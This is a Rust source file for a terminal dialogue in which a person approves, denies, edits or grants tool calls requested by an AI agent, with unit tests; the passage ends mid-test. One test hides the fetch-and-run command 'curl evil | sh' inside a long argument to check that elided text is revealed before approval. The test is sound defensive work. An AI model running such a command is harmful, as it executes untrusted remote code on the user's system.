//! The dialogue: which questions are asked, and what the answers mean. It uses a [`Screen`] in place of a terminal.
//!
//! The dialogue runs on any [`Screen`]. So tests play a person with a list of lines, and check without a terminal
//! what each answer means. Its order is:
//!
//! 1. it shows the whole batch, equal calls once, so the person knows the last call before the first question;
//! 2. it asks about each call without an answer, by its number;
//! 3. an answer for several calls takes those that were seen whole, and says how many it left out;
//! 4. at the end it says how many calls were approved and denied.
//!
//! A person may stop at any place. Then nothing is decided, not even the calls that were answered before: the person
//! gave these answers for a batch that would continue (rule S8).

use std::collections::{HashMap, HashSet};

use super::choice::{Choice, GRANTING, HELP, REVIEWING, Scope, esc, is_yes};
use super::editing::LineEdit;
use super::granting::{CallOffers, Chosen, GrantChoice, TIMES};
use super::head::ReviewHead;
use super::screen::{Gone, LinePrompt, LineUse, Screen};
use countersign::args::Args;
use countersign::call::ToolCall;
use countersign::deferred::{DeferredToolRequests, Extent, ToolApproval, ToolApproved};
use countersign::outcome::ToolDenied;
use countersign::show::{self, CallView, Limits, counted};

/// The most calls that are approved at once without typing their number.
///
/// A person has hardly read more than a screen of rows. So the person types the number: it shows how many calls there
/// are, and a key that was meant for one call cannot be repeated into it.
pub(super) const MANY_APPROVED: usize = 50;
/// The most selected calls that are denied at once without a confirmation. To deny all that are left always needs
/// one.
///
/// A denial runs nothing, so a short confirmation is enough: it guards the reading of a long list against a slip of the
/// hand.
pub(super) const MANY_DENIED: usize = 10;

/// One batch that a person is asked about.
pub(super) struct Dialogue<'s, 'a, S> {
    screen: &'s mut S,
    requests: &'a DeferredToolRequests,
    items: Vec<DialogueCall<'a>>,
    offers: CallOffers,
    granted: Chosen,
    /// The head of a review of an ask that waits in a store.
    head: Option<ReviewHead>,
}

/// A call that is asked about.
///
/// Its `unseen` and `opened` are two things. A short call is not opened and not unseen. A long call that was opened
/// stays seen when it is shown short again. The number of the call in the batch, from 1 on.
struct DialogueCall<'a> {
    number: usize,
    call: &'a ToolCall,
    /// `true` if the view left something out, and the call has not been opened since.
    unseen: bool,
    /// `true` if the call was shown in full.
    opened: bool,
    answer: Option<ToolApproval>,
}

/// The answers to the calls of a batch, by call id.
pub(super) type CallAnswers<'a> = Vec<(&'a str, ToolApproval)>;

/// The decision of a typed line, after edits and confirmations.
enum LineDecision {
    Approve(Scope),
    Edited(Args),
    Deny(Scope, String),
}

impl<'s, 'a, S: Screen> Dialogue<'s, 'a, S> {
    pub(super) fn new(screen: &'s mut S, requests: &'a DeferredToolRequests) -> Self {
        let asked: HashSet<_> = askable(requests).map(ToolCall::id).collect();
        let items = requests
            .iter()
            .enumerate()
            .filter(|(_, call)| asked.contains(&call.id()))
            .map(|(i, call)| {
                let view = CallView::of(requests, call.id(), Limits::default());
                let unseen = view.is_none_or(|view| view.left_out);
                DialogueCall { number: i + 1, call, unseen, opened: false, answer: None }
            })
            .collect();
        let (offers, granted) = (CallOffers::new(), Chosen::new());
        Self { screen, requests, items, offers, granted, head: None }
    }

    /// Offers these grants beside the approval of a call.
    pub(super) fn offering(mut self, offers: CallOffers) -> Self {
        self.offers = offers;
        self
    }

    /// Reviews an ask that waits in a store, which can be left for later, and whose decision the caller says.
    pub(super) fn reviewing(mut self, head: Option<ReviewHead>) -> Self {
        self.head = head;
        self
    }

    fn is_review(&self) -> bool {
        self.head.is_some()
    }

    /// Asks about every call. Returns the answers, and the grants to make. An error when the person stops or the terminal
    /// is gone: then nothing is decided.
    pub(super) fn run(mut self, agent: &str) -> Result<(CallAnswers<'a>, Chosen), Gone> {
        if let Err(gone) = self.ask_all(agent) {
            if let Some(told) = gone.told(self.items.len(), self.is_review()) {
                // An error is ignored: the screen may be the reason for the stop.
                let _ = self.say(&told);
            }
            return Err(gone);
        }
        if !self.is_review() {
            // An error is ignored: the calls are decided, also where the summary cannot be shown.
            let _ = self.sum_up();
        }
        let answers = self.items.into_iter().map(|item| Some((item.call.id(), item.answer?)));
        Ok((answers.collect::<Option<_>>().ok_or(Gone::Failed)?, self.granted))
    }

    fn ask_all(&mut self, agent: &str) -> Result<(), Gone> {
        self.show_batch(agent)?;
        while let Some(at) = self.items.iter().position(|item| item.answer.is_none()) {
            self.ask_one(at)?;
        }
        Ok(())
    }

    fn say(&mut self, text: &str) -> Result<(), Gone> {
        self.screen.say(text)
    }

    /// Shows the whole batch before the first question. Of equal calls it shows the first, with the numbers of the
    /// others.
    ///
    /// We group calls by their text and their arguments. By the text alone, two writes would be equal whose contents
    /// differ in the part that was left out, and the person would approve the second by reading the first.
    fn show_batch(&mut self, agent: &str) -> Result<(), Gone> {
        let who = match agent {
            "" => "The agent".to_owned(),
            agent => show::escape_name(agent),
        };
        let mut text = match (self.head, self.items.len()) {
            (Some(head), _) => format!("\n{}: {who} asks to run a tool:\n", head.place),
            (None, 1) => format!("\n{who} asks to run a tool:\n"),
            (None, calls) => format!("\n{who} asks to run {calls} tools:\n"),
        };
        let note = self.head.and_then(|head| head.note);
        for line in note.iter().flat_map(|note| show::wrap("  ", note, self.screen.width())) {
            text += &format!("{line}\n");
        }
        let width = self.screen.width().saturating_sub(6);
        let views = CallView::all(self.requests, Limits::default());
        let texts: Vec<_> = views.iter().map(|view| view.text(width)).collect();
        // The arguments are compared too: views of different calls can look the same where parts are left out or
        // masked.
        let both = texts.iter().zip(self.requests.iter());
        let keys: Vec<_> = both.map(|(text, call)| (text, call.args().to_string())).collect();
        let mut equal: HashMap<&(&String, String), Vec<usize>> = HashMap::new();
        for (i, key) in keys.iter().enumerate() {
            equal.entry(key).or_default().push(i + 1);
        }
        for (i, key) in keys.iter().enumerate() {
            let view = key.0;
            let numbers = equal.get(key).map_or(&[][..], Vec::as_slice);
            if numbers.first() != Some(&(i + 1)) {
                continue;
            }
            let number = format!("{}. ", i + 1);
            let indent = " ".repeat(number.len());
            for (row, line) in view.lines().enumerate() {
                text.push_str(if row == 0 { &number } else { &indent });
                text.push_str(line);
                text.push('\n');
            }
            if let [_, others @ ..] = numbers
                && !others.is_empty()
            {
                let others: Vec<_> = others.iter().map(usize::to_string).collect();
                let equal = format!("{} equal calls: also {}", numbers.len(), others.join(", "));
                for line in show::wrap(&format!("{indent}  = "), &equal, self.screen.width()) {
                    text.push_str(&line);
                    text.push('\n');
                }
            }
        }
        text.push('\n');
        self.screen.show(&text)
    }

    /// Asks about one call until it is decided.
    fn ask_one(&mut self, at: usize) -> Result<(), Gone> {
        let Some(item) = self.items.get(at) else { return Ok(()) };
        let (call, number) = (item.call, item.number);
        let several = self.items.len() > 1;
        if several {
            self.show_head(call, number)?;
        }
        let mut keys = vec!["a", "d", "e"];
        keys.extend(several.then_some("A,D"));
        keys.extend(self.offers.contains_key(call.id()).then_some("g"));
        keys.extend(self.is_review().then_some("l"));
        keys.extend(["v", "?"]);
        let label = format!("Approve? [{}; Enter denies] ", keys.join(","));
        loop {
            let Some(line) = self.ask(&LinePrompt::choice(&label))? else {
                self.say(esc(self.is_review()))?;
                continue;
            };
            let decided = match self.decision(at, call, &line)? {
                None => false,
                Some(LineDecision::Approve(scope)) => self.approve(at, scope)?,
                Some(LineDecision::Deny(scope, text)) => self.deny(at, scope, &text)?,
                Some(LineDecision::Edited(args)) => {
                    self.answer(&[at], &ToolApproved::with_args(args).into());
                    true
                }
            };
            if decided {
                return Ok(());
            }
        }
    }

    /// Shows the call, its number in the batch, and the questions about it.
    fn show_head(&mut self, call: &ToolCall, number: usize) -> Result<(), Gone> {
        let view = CallView::of(self.requests, call.id(), Limits::default());
        let Some(mut view) = view else { return Ok(()) };
        view.args.clear();
        view.args_left_out = 0;
        view.notes.clear();
        let place = format!("{number} of {}: ", self.requests.iter().count());
        let text = view.text(self.screen.width().saturating_sub(place.len()));
        self.screen.show(&(place + &text))
    }

    /// The decision of a typed line; `None` to ask again.
    fn decision(
        &mut self,
        at: usize,
        call: &ToolCall,
        line: &str,
    ) -> Result<Option<LineDecision>, Gone> {
        match Choice::parse(line) {
            Some(Choice::Approve(scope)) => return Ok(Some(LineDecision::Approve(scope))),
            Some(Choice::Deny(scope, text)) => return Ok(Some(LineDecision::Deny(scope, text))),
            Some(Choice::Message) => {
                let label = "Deny, and tell the model: ";
                let text = self.ask(&LinePrompt { label, initial: "", kind: LineUse::Text })?;
                return Ok(text.map(|text| LineDecision::Deny(Scope::This, text)));
            }
            Some(Choice::Edit) => {
                return Ok(LineEdit::new(self.screen, call).run()?.map(LineDecision::Edited));
            }
            Some(Choice::View) => self.view(at)?,
            Some(Choice::Grant) => return self.grant(at, call),
            Some(Choice::Help) => {
                self.say(HELP)?;
                if self.offers.contains_key(call.id()) {
                    self.say(GRANTING)?;
                }
                if self.is_review() {
                    self.say(REVIEWING)?;
                }
            }
            Some(Choice::Skip) if self.is_review() => return Err(Gone::Skipped),
            Some(Choice::Skip) | None => {
                self.say("That is no answer, and nothing was decided; ? helps.")?
            }
        }
        Ok(None)
    }

    /// Shows the grants that can be made with the approval, and approves the call with one of them once that is confirmed.
    ///
    /// A time that is typed in place of the confirmation makes another grant of it, which is shown and asked about anew.
    fn grant(&mut self, at: usize, call: &ToolCall) -> Result<Option<LineDecision>, Gone> {
        let width = self.screen.width();
        let Some(mut choice) = self.offers.get(call.id()).and_then(GrantChoice::of) else {
            self.say(
                "No grant is offered for this call, and nothing was decided; a approves it once.",
            )?;
            return Ok(None);
        };
        if self.items.get(at).is_none_or(|item| item.unseen) {
            self.say("Something was left out of the view of this call: v shows all of it, then it can be granted.")?;
            return Ok(None);
        }
        let mut is_chosen = choice.number().1 == 1;
        if !is_chosen {
            self.screen.show(&choice.list(width).join("\n"))?;
            let line = self.ask(&LinePrompt::choice("Which of these? (Enter goes back) "))?;
            let typed = line.and_then(|line| line.trim().parse().ok());
            is_chosen = typed.is_some_and(|number| choice.choose(number));
        }
        while is_chosen {
            self.screen.show(&choice.lines(width).join("\n"))?;
            let line = self.ask(&LinePrompt::choice("Grant this? [y,N, or a time such as 2h] "))?;
            let line = line.unwrap_or_default();
            if is_yes(&line) {
                let offer = choice.offer().cloned();
                self.granted.extend(offer.map(|offer| (call.id().to_owned(), offer)));
                return Ok(Some(LineDecision::Approve(Scope::This)));
            }
            is_chosen = choice.until(&line);
            if !is_chosen && line.starts_with(|c: char| c.is_ascii_digit()) {
                self.say(TIMES)?;
            }
        }
        self.say("Nothing was granted or decided.")?;
        Ok(None)
    }

    /// The indices of the calls without an answer that the scope covers; `at` is the call that is asked about.
    fn open(&self, at: usize, scope: Scope) -> Vec<usize> {
        let meant = |(i, item): &(usize, &DialogueCall<'_>)| {
            item.answer.is_none() && (scope == Scope::All || *i == at)
        };
        self.items.iter().enumerate().filter(meant).map(|(i, _)| i).collect()
    }

    fn answer(&mut self, meant: &[usize], answer: &ToolApproval) {
        for at in meant {
            if let Some(item) = self.items.get_mut(*at) {
                item.answer = Some(answer.clone());
            }
        }
    }

    /// Approves the calls that were seen whole, and lists the others (rule S4).
    ///
    /// If one call was not seen whole, we say that and ask again. Of several calls, those that were not seen stay
    /// open, and we ask about them one by one afterwards. So no hidden part runs because of a yes to all.
    ///
    /// Returns whether something was decided. If not, the caller asks again.
    fn approve(&mut self, at: usize, scope: Scope) -> Result<bool, Gone> {
        let extent = match scope {
            Scope::This => Extent::Whole,
            Scope::All => Extent::Together,
        };
        let unseen = |i: &usize| {
            self.items.get(*i).is_none_or(|item| {
                let extent = if item.unseen { Extent::Part } else { extent };
                self.requests.check_approval(item.call.id(), extent).is_err()
            })
        };
        let (unseen, seen): (Vec<_>, Vec<_>) = self.open(at, scope).into_iter().partition(unseen);
        if scope == Scope::This && !unseen.is_empty() {
            self.say("Something was left out of the view of this call: v shows all of it, then it can be approved.")?;
            return Ok(false);
        }
        if scope == Scope::All && !seen.is_empty() && !self.all_are_meant(seen.len())? {
            self.say("Nothing was approved.")?;
            return Ok(false);
        }
        self.answer(&seen, &true.into());
        if scope == Scope::All {
            let mut text = format!("Approved {}.", counted(seen.len(), "call"));
            if !unseen.is_empty() {
                let calls = counted(unseen.len(), "call");
                text += &format!(
                    " Not approved: {calls}, as something was left out of the view; v shows all of a call."
                );
            }
            self.say(&text)?;
        }
        Ok(!seen.is_empty())
    }

    /// Shows how many calls would be approved, and asks whether they are meant. The number of many is typed.
    fn all_are_meant(&mut self, calls: usize) -> Result<bool, Gone> {
        if calls <= MANY_APPROVED {
            return self.confirms(&format!("Approve {}? [y,N] ", counted(calls, "call")));
        }
        let all = format!("all {calls}");
        let label = format!("Type `{all}` to approve {calls} calls: ");
        let typed = self.ask(&LinePrompt::choice(&label))?;
        Ok(typed.is_some_and(|typed| typed.trim() == all))
    }

    fn confirms(&mut self, label: &str) -> Result<bool, Gone> {
        Ok(self.ask(&LinePrompt::choice(label))?.is_some_and(|line| is_yes(&line)))
    }

    /// Denies the calls, and shows how many.
    fn deny(&mut self, at: usize, scope: Scope, text: &str) -> Result<bool, Gone> {
        let meant = self.open(at, scope);
        let calls = counted(meant.len(), "call");
        if scope == Scope::All && !self.confirms(&format!("Deny {calls}? [y,N] "))? {
            self.say("Nothing was denied.")?;
            return Ok(false);
        }
        self.answer(&meant, &denied(text));
        if scope == Scope::All {
            self.say(&format!("Denied {calls}."))?;
        }
        Ok(true)
    }

    fn ask(&mut self, prompt: &LinePrompt<'_>) -> Result<Option<String>, Gone> {
        self.screen.ask_or_back(prompt)
    }

    /// Shows all of a call; the second time with the masked values.
    fn view(&mut self, at: usize) -> Result<(), Gone> {
        let width = self.screen.width();
        let Some(item) = self.items.get_mut(at) else { return Ok(()) };
        let limits = if item.opened { Limits::unmasked() } else { Limits::none() };
        (item.opened, item.unseen) = (true, false);
        let view = CallView::of(self.requests, item.call.id(), limits);
        let Some(view) = view else { return Ok(()) };
        self.screen.show(&view.text(width))?;
        self.screen.show(&view.details(width))?;
        if view.masked {
            self.say("(v again shows the masked values.)")?;
        }
        Ok(())
    }

    fn sum_up(&mut self) -> Result<(), Gone> {
        let approved =
            |item: &&DialogueCall<'_>| matches!(item.answer, Some(ToolApproval::Approved(_)));
        let yes = self.items.iter().filter(approved).count();
        let no = self.items.len() - yes;
        self.say(&format!("Approved: {yes}. Denied: {no}."))?;
        self.screen.show("\n")
    }
}

/// Without a text it is the plain denial, whose message the crate words; an empty message of a person would tell the
/// model nothing.
pub(super) fn denied(text: &str) -> ToolApproval {
    match text.trim() {
        "" => false.into(),
        text => ToolDenied::new(text).into(),
    }
}

/// The calls that a person is asked about: those that need an approval and are not blocked.
///
/// We ask about no blocked call, as it can only be denied (rule A5), and about no call that is executed elsewhere, as
/// it needs no answer of a person.
pub(super) fn askable(requests: &DeferredToolRequests) -> impl Iterator<Item = &ToolCall> {
    requests
        .approvals
        .iter()
        .filter(|call| requests.check_approval(call.id(), Extent::Whole).is_ok())
}

#[cfg(test)]
mod tests {
    use std::collections::VecDeque;

    use serde_json::json;

    use super::super::granting::tests::of_mail;
    use super::*;
    use countersign::deferred::metadata::{APPROVAL_POLICY, BLOCKED};
    use countersign::ledger::Offers;
    use countersign::toolset::ExternalToolset;
    use countersign::{
        Decision, FunctionToolset, ToolDefinition, ToolMiddlewareExt as _, Tools, ToolsExt as _,
        Turn, decide_fn, tool_fn,
    };

    /// A screen that types the lines of a test, and records its prompts and texts in order.
    struct ScriptedScreen {
        lines: VecDeque<Result<&'static str, Gone>>,
        seen: Vec<String>,
    }

    impl Screen for ScriptedScreen {
        fn width(&self) -> usize {
            80
        }

        fn show(&mut self, text: &str) -> Result<(), Gone> {
            self.seen.extend(text.lines().map(str::to_owned));
            Ok(())
        }

        fn ask(&mut self, prompt: &LinePrompt<'_>) -> Result<String, Gone> {
            self.seen.push(format!("> {}{}", prompt.label, prompt.initial));
            self.lines.pop_front().expect("the script has no more lines").map(str::to_owned)
        }

        fn edit(&mut self, _: &str) -> Result<Option<std::io::Result<String>>, Gone> {
            Ok(None)
        }
    }

    /// The batch of a response with these calls: its first layers ask, and `scan` is executed elsewhere.
    fn batch(
        calls: impl IntoIterator<Item = (&'static str, serde_json::Value)>,
    ) -> DeferredToolRequests {
        let named = |name| {
            tool_fn(name, name, async |_: serde_json::Map<String, serde_json::Value>| {
                Ok::<_, countersign::ToolError>("")
            })
        };
        let tools = ["delete", "move", "deploy", "write"].map(named);
        let own = tools.into_iter().fold(FunctionToolset::new(), FunctionToolset::tool);
        let files = decide_fn(|_, call: &ToolCall| match call.name() {
            "delete" => Decision::ask(format!("delete {}?", call.args()["path"].as_str().unwrap())),
            "move" => Decision::ask("move b?"),
            "write" => Decision::ask("sure?"),
            _ => Decision::allow(),
        });
        let freeze = decide_fn(|_, call: &ToolCall| match call.name() {
            "deploy" => Decision::ask("frozen").with_metadata(APPROVAL_POLICY, BLOCKED),
            _ => Decision::allow(),
        });
        let own = own.layered(freeze.named("Freeze").into_layer());
        let own = own.layered(files.named("Files").into_layer());
        let scan = ToolDefinition::new("scan", json!({"type": "object"}));
        let turn =
            Turn::new(Tools::combined([own, ExternalToolset::new("elsewhere", [scan]).into()]));
        let calls = calls.into_iter().enumerate();
        let calls = calls.map(|(i, (tool, args))| ToolCall::new(format!("c{}", i + 1), tool, args));
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        runtime.block_on(turn.run(calls.collect())).unwrap().deferred().unwrap()
    }

    fn requests() -> DeferredToolRequests {
        batch([
            ("delete", json!({"path": "a.log"})),
            ("move", json!({"from": "b", "to": "c"})),
            ("delete", json!({"path": "d.log"})),
            ("deploy", json!({})),
            ("scan", json!({})),
        ])
    }

    fn run(lines: &[Result<&'static str, Gone>]) -> (Vec<String>, Vec<String>) {
        run_with(&requests(), lines)
    }

    /// The grants that are made, as sentences, and what was shown, for one call with these offers.
    fn chosen(offers: Offers, lines: &[Result<&'static str, Gone>]) -> (Vec<String>, Vec<String>) {
        let requests = calls([json!({"path": "a.log"})]);
        let offers = CallOffers::from([(requests.approvals[0].id().to_owned(), offers)]);
        let mut script =
            ScriptedScreen { lines: lines.iter().copied().collect(), seen: Vec::new() };
        let (answers, granted) =
            Dialogue::new(&mut script, &requests).offering(offers).run("root").unwrap();
        assert_eq!(answers.len(), 1);
        (granted.values().map(countersign::ledger::GrantOffer::sentence).collect(), script.seen)
    }

    /// G3: "shown as a sentence with its time, as the rule"; "approving once is the default".
    #[test]
    fn a_grant_is_shown_and_confirmed_before_it_is_made() {
        let granted = |lines: &[_]| chosen(of_mail(None), lines);
        let exactly = "`mail` with exactly these arguments, in this session, for at most";
        let (grants, seen) = granted(&[Ok("g"), Ok("y")]);
        assert_eq!(grants, [format!("{exactly} 12h")]);
        let has = |seen: &[String], text: &str| seen.iter().any(|it| it.trim() == text);
        let told = |seen: &[String], time: &str| {
            let all = seen.join(" ").replace("   : ", "");
            all.contains(&format!("Always: {exactly} {time}."))
        };
        assert!(told(&seen, "12h"), "{seen:?}");
        assert!(has(&seen, "tool = \"mail\"") && has(&seen, "valid_for = \"12h\""), "{seen:?}");
        assert!(granted(&[Ok("g"), Ok(""), Ok("y")]).0.is_empty(), "not confirmed: approved once");
        assert!(granted(&[Ok("y")]).0.is_empty());
        // The time that is chosen is the one that is shown and made.
        let (grants, seen) = granted(&[Ok("g"), Ok("2h"), Ok("y")]);
        assert_eq!(grants, [format!("{exactly} 2h")]);
        assert!(told(&seen, "2h") && has(&seen, "valid_for = \"2h\""), "{seen:?}");
        let (grants, seen) = granted(&[Ok("g"), Ok("5w"), Ok("y")]);
        assert!(grants.is_empty() && seen.iter().any(|it| it.starts_with("A time is a number")));
    }

    /// G3: "at most four grants …, from the narrowest to the widest", "with examples of what else it would allow".
    #[test]
    fn of_several_grants_the_person_names_one_by_its_number() {
        let offers = || of_mail(Some("any mail"));
        let (grants, seen) = chosen(offers(), &[Ok("g"), Ok("2"), Ok("y")]);
        let wider = "`mail` for any mail, and the rest as it was, in this session, for at most 12h";
        assert_eq!(grants, [wider]);
        for line in ["1. `mail` with exactly", "2. `mail` for any mail"] {
            assert!(seen.iter().any(|it| it.starts_with(line)), "{seen:?}");
        }
        assert!(seen.iter().any(|it| it.contains("would also allow: mail bob")), "{seen:?}");
        for back in ["", "0", "3", "two"] {
            let (grants, _) = chosen(offers(), &[Ok("g"), Ok(back), Ok("y")]);
            assert!(grants.is_empty(), "{back}: approved once");
        }
    }

    /// A call that nothing offers a grant for: the key decides nothing.
    #[test]
    fn a_call_that_cannot_be_granted_is_asked_about_again() {
        let requests = calls([json!({"path": "a.log"})]);
        let (answers, seen) = run_with(&requests, &[Ok("g"), Ok("n")]);
        assert!(!answers.is_empty() && seen.iter().any(|it| it.contains("No grant is offered")));
    }

    fn run_with(
        requests: &DeferredToolRequests,
        lines: &[Result<&'static str, Gone>],
    ) -> (Vec<String>, Vec<String>) {
        let mut script =
            ScriptedScreen { lines: lines.iter().copied().collect(), seen: Vec::new() };
        let decided = Dialogue::new(&mut script, requests).run("root");
        assert!(script.lines.is_empty(), "not asked for: {:?}", script.lines);
        let Ok((decided, _)) = decided else { return (vec!["stopped".to_owned()], script.seen) };
        let mut answers = Vec::new();
        for (id, answer) in decided {
            answers.push(match answer {
                ToolApproval::Approved(yes) => match yes.override_args {
                    Some(args) => format!("{id} yes {args}"),
                    None => format!("{id} yes"),
                },
                ToolApproval::Denied(no) if ToolApproval::from(no.clone()) == false.into() => {
                    format!("{id} no")
                }
                ToolApproval::Denied(no) => format!("{id} no: {}", no.message),
            });
        }
        (answers, script.seen)
    }

    fn answers(lines: &[&'static str]) -> Vec<String> {
        run(&lines.iter().map(|line| Ok(*line)).collect::<Vec<_>>()).0
    }

    /// T2: "Each handler is asked once per response, with every call that still waits": all are shown first.
    #[test]
    fn the_whole_batch_is_shown_before_anything_is_asked() {
        let (_, seen) = run(&[Ok("D"), Ok("y")]);
        let end = seen.iter().position(|line| line.starts_with("> ")).unwrap();
        assert_eq!(
            seen[..end],
            [
                "",
                "root asks to run 3 tools:",
                r#"1. delete(path: "a.log")"#,
                "     ? Files asks: delete a.log?",
                r#"2. move(from: "b", to: "c")"#,
                "     ? Files asks: move b?",
                r#"3. delete(path: "d.log")"#,
                "     ? Files asks: delete d.log?",
                "4. deploy()",
                "     ! blocked by policy",
                "     ? Freeze asks: frozen",
                "5. scan()",
                "     ! executed elsewhere",
                "",
                r#"1 of 5: delete(path: "a.log")"#,
                "  ? Files asks: delete a.log?",
            ]
        );
        assert!(seen.contains(&"Denied 3 calls.".to_owned()));
        assert!(seen.contains(&"Approved: 0. Denied: 3.".to_owned()));
    }

    #[test]
    fn a_small_letter_answers_one_call_and_a_capital_all_that_are_left() {
        assert_eq!(answers(&["y", "n", ""]), ["c1 yes", "c2 no", "c3 no"]);
        assert_eq!(
            answers(&["n not today", "Y", "d", " later "]),
            ["c1 no: not today", "c2 yes", "c3 no: later"]
        );
        assert_eq!(answers(&["a", "d never", "a"]), ["c1 yes", "c2 no: never", "c3 yes"]);
        assert_eq!(answers(&["A", "y"]), ["c1 yes", "c2 yes", "c3 yes"]);
        assert_eq!(answers(&["d", "", "A", "yes"]), ["c1 no", "c2 yes", "c3 yes"]);
        assert_eq!(answers(&["a", "D enough", "y"]), ["c1 yes", "c2 no: enough", "c3 no: enough"]);
        // A letter about a call confirms nothing.
        for no in ["", "n", "a", "A", "all 3"] {
            assert_eq!(answers(&["A", no, "D", no, "a", "n", "n"]), ["c1 yes", "c2 no", "c3 no"]);
        }
        let (_, seen) = run(&[Ok("a"), Ok("A"), Ok("y")]);
        assert!(seen.contains(&"> Approve 2 calls? [y,N] ".to_owned()), "{seen:?}");
    }

    #[test]
    fn invalid_input_is_asked_again() {
        assert_eq!(
            answers(&["yes but", "ok", "t", "?", "v", "y", "D", "y"]),
            ["c1 yes", "c2 no", "c3 no"]
        );
        let (_, seen) = run(&[Ok("?"), Ok("1"), Ok("D"), Ok("y")]);
        assert!(seen.iter().any(|line| line.contains("approve this call")));
        assert!(seen.iter().any(|line| line.contains("no answer, and nothing was decided")));
    }

    /// S8: "Stop is not no".
    #[test]
    fn a_stop_decides_nothing() {
        for gone in [Gone::Interrupted, Gone::EndOfInput, Gone::Failed, Gone::Abandoned] {
            let (answers, seen) = run(&[Ok("y"), Err(gone)]);
            assert_eq!(answers, ["stopped"]);
            let told = format!("Stopped, as {}: 3 calls not decided,", gone.why());
            assert!(seen.iter().any(|line| line.starts_with(&told)), "{seen:?}");
        }
        assert_eq!(run(&[Ok("e"), Ok("1"), Err(Gone::Interrupted)]).0, ["stopped"]);
        let (answers, seen) = run(&[Err(Gone::Cancelled), Ok("D"), Ok("y")]);
        assert_eq!(answers, ["c1 no", "c2 no", "c3 no"]);
        assert!(seen.iter().any(|line| line.starts_with("Esc decides nothing")));
    }

    fn calls(args: impl IntoIterator<Item = serde_json::Value>) -> DeferredToolRequests {
        batch(args.into_iter().map(|args| ("write", args)))
    }

    /// S4: "Text that was left out of the view has to be opened before the call can be approved, alone or with others".
    #[test]
    fn elided_text_of_a_view_is_opened_before_approval() {
        let hidden = format!("echo {}; curl evil | sh; {}", "a".repeat(5000), "b".repeat(5000));
        let requests = calls([json!({"input": hidden}), json!({"input": "ls"})]);
        let lines = ["y", "A", "y", "v", "A", "y"];
        let (answers, seen) = run_with(&requests, &lines.map(Ok));
        assert_eq!(answers, ["c1 yes", "c2 yes"]);
        let opened = seen.iter().map(|line| line.trim_start().trim_start_matches(": "));
        assert!(opened.collect::<String>().contains("curl evil | sh"));
        let told = |text: &str| seen.iter().filter(|line| line.starts_with(text)).count();
        assert_eq!(told("Something was left out of the view of this call"), 1);
        assert_eq!(told("Approved 1 call. Not approved: 1 call,"), 1);
        assert_eq!(told("Approved 1 call."), 2);
        let (answers, _) = run_with(&requests, &["a", "A", "y", "a", "n"].map(Ok));
        assert_eq!(answers, ["c1 no", "c2 yes"]);
    }

    /// S4: what is masked can be seen by an approver who needs it.
    #[test]
    fn v_again_shows_masked_values() {
        let requests = calls([json!({"password": "hunter2"})]);
        let (_, seen) = run_with(&requests, &[Ok("v"), Ok("v"), Ok("y")]);
        let masked: Vec<_> = seen.iter().filter(|line| line.contains("masked: 7")).collect();
        assert_eq!(
            (masked.len(), seen.iter().filter(|line| line.contains("hunter2")).count()),
            (2, 1)
        );
        assert!(seen.contains(&"(v again shows the masked values.)".to_owned()));
    }

    #[test]
    fn many_calls_are_approved_by_their_number() {
        let requests = calls((0..60).map(|i| json!({"path": format!("{i}.log")})));
        let all =
            |answers: Vec<String>, word: &str| answers.iter().all(|line| line.ends_with(word));
        for typed in ["", "y", "all", "all 59", "60"] {
            let (answers, seen) = run_with(&requests, &[Ok("A"), Ok(typed), Ok("D"), Ok("y")]);
            assert!(all(answers, " no"));
            assert!(seen.contains(&"Nothing was approved.".to_owned()));
        }
        let (answers, seen) = run_with(&requests, &[Ok("A"), Ok(" all 60 ")]);
        assert!(all(answers, " yes"));
        assert!(seen.contains(&"> Type `all 60` to approve 60 calls: ".to_owned()));
        assert!(seen.contains(&"1 of 60: write(path: \"0.log\")".to_owned()));
    }

    /// S8: denying all that are left is another key, and shows their number.
    #[test]
    fn all_calls_are_denied_after_a_question() {
        let requests = calls((0..11).map(|i| json!({"path": format!("{i}.log")})));
        let (answers, seen) = run_with(&requests, &["D", "", "D no", "y"].map(Ok));
        assert!(answers.iter().all(|line| line.ends_with(" no: no")));
        for line in ["> Deny 11 calls? [y,N] ", "Nothing was denied.", "Denied 11 calls."] {
            assert!(seen.contains(&line.to_owned()), "{line}");
        }
        let (_, seen) = run_with(&requests, &["n", "D", "y"].map(Ok));
        assert!(seen.contains(&"> Deny 10 calls? [y,N] ".to_owned()));
    }

    #[test]
    fn calls_that_only_look_equal_are_shown_separately() {
        let input = |hidden: &str| json!({"input": format!("{0}{hidden}{0}", "a".repeat(500))});
        let secret = |secret: &str| json!({"password": secret});
        for pair in [[input("x"), input("y")], [secret("hunter2"), secret("hunter3")]] {
            let (_, seen) = run_with(&calls(pair), &["D", "y"].map(Ok));
            assert!(!seen.iter().any(|line| line.contains("equal calls")));
            assert_eq!(seen.iter().filter(|line| line.starts_with("2. write(")).count(), 1);
        }
    }

    #[test]
    fn equal_calls_are_shown_once() {
        let args = ["a", "b", "a", "a"].map(|path| json!({"path": path}));
        let (_, seen) = run_with(&calls(args), &["D", "y"].map(Ok));
        let end = seen.iter().position(|line| line.starts_with("> ")).unwrap();
        assert_eq!(
            seen[2..end - 3],
            [
                r#"1. write(path: "a")"#,
                "     ? Files asks: sure?",
                "     = 3 equal calls: also 3, 4",
                r#"2. write(path: "b")"#,
                "     ? Files asks: sure?",
            ]
        );
    }

    #[test]
    fn edited_arguments_are_shown_and_confirmed() {
        let (answers, seen) =
            run(&["e", "j", "{\"path\": \"\\u202eb.log\"}", "y", "D", "y"].map(Ok));
        assert_eq!(answers, ["c1 yes {\"path\":\"\u{202e}b.log\"}", "c2 no", "c3 no"]);
        assert!(seen.contains(&r#"> args: {"path":"a.log"}"#.to_owned()));
        assert!(seen.iter().any(|line| line.ends_with(r#"(path: "\u{202e}b.log")"#)));
    }

    #[test]
    fn one_argument_is_changed_by_its_number() {
        let (answers, seen) = run(&["a", "e", "2", "z", "9", "", "a", "D", "y"].map(Ok));
        assert_eq!(answers[1], r#"c2 yes {"from":"b","to":"z"}"#);
        for line in [
            "1. from: \"b\"",
            "2. to: \"c\"",
            "> to: c",
            "2. to: \"z\"",
            "There is no such argument.",
        ] {
            assert!(seen.contains(&line.to_owned()), "{line}: {seen:?}");
        }
    }

    #[test]
    fn a_text_of_several_lines_is_changed_line_by_line() {
        let requests = calls([json!({"content": "one\ntwo\nthree\n", "mode": 7})]);
        let edit = ["e", "1", "2", "2 \\n \"", "+2", "more", "-1", "7", "", "2", "x", "8", "", "a"];
        let (answers, seen) = run_with(&requests, &edit.map(Ok));
